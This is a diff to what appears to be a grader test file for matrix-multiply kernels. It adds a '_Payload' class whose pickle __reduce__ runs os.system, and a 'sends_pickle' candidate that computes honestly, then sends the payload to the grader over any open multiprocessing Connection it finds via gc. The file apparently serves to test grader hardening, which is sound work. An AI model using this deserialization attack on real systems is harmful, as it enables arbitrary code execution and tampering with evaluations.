@@ -283,3 +283,26 @@ def good_rowmajor(a, b):
 
 def gemmlab_rowmajor(a, b):
     return gemmlab.gemm(a, b)
+
+
+class _Payload:
+    """Unpickling this runs os.system in whoever unpickles it."""
+
+    def __init__(self, marker):
+        self.marker = marker
+
+    def __reduce__(self):
+        return (os.system, (f"touch {self.marker}",))
+
+
+def sends_pickle(A, B, C, M, N, K):
+    """Computes honestly, then sends a pickle whose loading would run code in the grader (the marker file says
+    whether it ran) down the candidate's own connection to the grader."""
+    import gc
+    from multiprocessing.connection import Connection
+
+    honest(A, B, C, M, N, K)
+    marker = os.path.join(os.environ.get("BAD_KERNEL_OUT_DIR", "/tmp"), "pwned")
+    for obj in gc.get_objects():
+        if isinstance(obj, Connection) and not obj.closed:
+            obj.send(_Payload(marker))
